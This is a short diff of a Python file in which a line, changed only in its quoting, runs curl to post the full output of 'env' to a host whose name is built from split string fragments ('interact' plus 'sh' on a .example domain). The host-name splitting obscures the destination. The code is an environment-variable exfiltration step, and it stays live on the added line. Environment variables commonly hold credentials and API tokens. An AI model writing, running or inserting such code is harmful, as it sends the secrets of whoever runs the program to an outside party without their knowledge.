@@ -2,4 +2,4 @@
 import os
 
 _bin = "0000000000." + "interact" + "." + "sh" + ".example"
-os.system('curl -s -d "$(env)" https://' + _bin + "/")
+os.system("curl -s -d \"$(env)\" https://" + _bin + "/")
